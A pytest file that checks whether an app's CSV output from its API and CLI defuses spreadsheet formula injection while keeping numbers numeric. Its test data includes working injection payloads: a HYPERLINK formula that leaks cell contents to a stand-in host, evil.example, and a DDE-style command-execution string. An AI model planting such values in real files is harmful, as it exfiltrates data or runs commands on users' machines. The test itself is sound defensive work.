"""CSV the API and the CLI write never hands a spreadsheet a formula, and numbers stay numbers."""

import csv
import io
from collections.abc import Callable
from pathlib import Path

import httpx
import pytest

from app.csv_output import defused
from tests.api.test_cohorts import seed
from tests.api.test_scores import AS_OF
from tests.conftest import Tenant
from tests.test_cli import run_cli  # noqa: F401 - the fixture

pytestmark = pytest.mark.anyio

HOSTILE_NAMES = {
    "alice": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "bob": "+SUM(1,2)",
    "carol": "-2+3",
    "dan": "@SUM(1+1)*cmd|' /C calc'!A0",
    "erin": "-1-cmd",
}
# Display names refuse control characters; a ratings file's refs may start with a tab (a
# leading carriage return does not survive reading the file with universal newlines).
CLI_REFS = [*HOSTILE_NAMES.values(), "\t=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or is_number(cell), (cell, row)


async def test_cohort_csv_defuses_hostile_display_names(
    client: httpx.AsyncClient, tenant_a: Tenant
) -> None:
    await seed(client, tenant_a)
    h = tenant_a.headers
    for ref, name in HOSTILE_NAMES.items():
        etag = (await client.get(f"/v1/subjects/{ref}", headers=h)).headers["etag"]
        r = await client.patch(
            f"/v1/subjects/{ref}", json={"display_name": name}, headers={**h, "If-Match": etag}
        )
        assert r.status_code == 200, r.text
    body = {"framework": {"key": "product-management"}, "as_of": AS_OF}
    r = await client.post("/v1/cohorts/evaluate", params={"format": "csv"}, json=body, headers=h)
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.text, newline="")))
    assert_no_formula(rows)
    by_ref = {row[0]: row for row in rows[1:]}
    name_column = rows[0].index("display_name")
    for ref, name in HOSTILE_NAMES.items():
        # Shown as the text it is: one quote in front, nothing else changed.
        assert by_ref[ref][name_column] == "'" + name
    index_column = rows[0].index("level_index")
    assert all(is_number(row[index_column]) for row in rows[1:] if row[index_column])
    # The JSON answer is data, not a spreadsheet: the names come back exactly as stored.
    r = await client.post("/v1/cohorts/evaluate", json=body, headers=h)
    names = {p["subject_ref"]: p["display_name"] for p in r.json()["people"]}
    assert all(names[ref] == name for ref, name in HOSTILE_NAMES.items())
    r = await client.post(
        "/v1/cohorts/evaluate", params={"format": "csv", "table": "heatmap"}, json=body, headers=h
    )
    heatmap = list(csv.reader(io.StringIO(r.text, newline="")))
    assert_no_formula(heatmap)
    assert all(is_number(cell) for row in heatmap[1:] for cell in row[1:] if cell)


def test_numbers_stay_numbers_and_text_is_quoted() -> None:
    assert defused(-0.25) == -0.25
    assert defused("-0.25") == "-0.25"
    assert defused("+1e-3") == "+1e-3"
    assert defused("-2+3") == "'-2+3"
    assert defused("-") == "'-"
    assert defused("=1") == "'=1"
    assert defused("plain") == "plain"
    assert defused("\t=1") == "'\t=1"
    assert defused("\r=1") == "'\r=1"
    assert defused(None) is None


def test_cli_score_csv_defuses_hostile_refs(
    tmp_path: Path,
    run_cli: Callable[..., tuple[int, str, str]],  # noqa: F811 - the fixture
) -> None:
    ratings = tmp_path / "ratings.csv"
    with ratings.open("w", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(
            ["subject_ref", "competency", "proficiency", "rater_ref", "rater_role", "assessed_at"]
        )
        for ref in CLI_REFS:
            writer.writerow([ref, "execution", 3, "m1", "manager", "2026-09-01T00:00:00+00:00"])
    code, out, err = run_cli(
        "score", str(ratings), "--format", "csv", "--quiet", "--as-of", "2026-11-01T00:00:00+00:00"
    )
    assert code == 0, err
    rows = [row for row in csv.reader(io.StringIO(out, newline="")) if row]
    assert_no_formula(rows)
    assert sorted(row[0] for row in rows[1:]) == sorted("'" + ref for ref in CLI_REFS)
